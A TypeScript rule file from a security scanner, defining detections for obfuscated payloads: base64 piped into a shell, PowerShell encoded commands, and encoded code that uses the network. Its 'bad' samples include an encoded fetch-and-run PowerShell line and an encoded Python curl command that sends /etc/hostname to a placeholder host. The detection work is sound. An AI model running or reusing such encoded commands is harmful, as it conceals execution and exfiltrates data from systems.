import { encodedPayload } from "../../detectors/encoded-payload.ts";
import { defineRules } from "../../engine/define-rule.ts";
import { python } from "../../engine/rule-example.ts";
import { ignoreSamples } from "../../filters/ignore-samples.ts";

export const encodedPayloadRules = defineRules({
  family: "obfuscation",
  run: ignoreSamples(encodedPayload),
  rules: [
    {
      id: "obfuscation.decoded-and-run",
      alias: "R03.decoded_and_run",
      severity: "block",
      says: "It decodes text and runs the result, so that nobody sees what is run.",
      falsePositive: "A self-extracting installer; ship the files as they are.",
      bad: ["echo bHMgLWxhCg== | base64 -d | sh"],
      good: ["echo bHMgLWxhCg== | base64 -d > list.txt"],
    },
    {
      id: "obfuscation.encoded-command",
      alias: "R03.encoded_command",
      severity: "block",
      says: "A command is handed over in an encoding that hides what it does.",
      falsePositive:
        "A Windows script that encodes a command only because of its quotation marks; write it into a file.",
      bad: ["powershell -EncodedCommand SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAApAA=="],
      good: ["powershell -File setup.ps1"],
    },
    {
      id: "obfuscation.hidden-code",
      alias: "R03.hidden_code",
      severity: "review",
      says: "Encoded text holds code that uses the network or runs other code.",
      falsePositive: "Test data of a decoder; keep it in a folder of tests.",
      bad: [
        python(
          "import base64\nDATA = 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBodHRwczovL3Vua25vd24uZXhhbXBsZS94IC1kIEAvZXRjL2hvc3RuYW1lJykK'\nprint(base64.b64decode(DATA))",
        ),
      ],
      good: [
        python("import base64\nDATA = 'aGVsbG8gd29ybGQsIHRoaXMgaXMgYSBub3Rl'\nprint(base64.b64decode(DATA))"),
      ],
    },
  ],
});
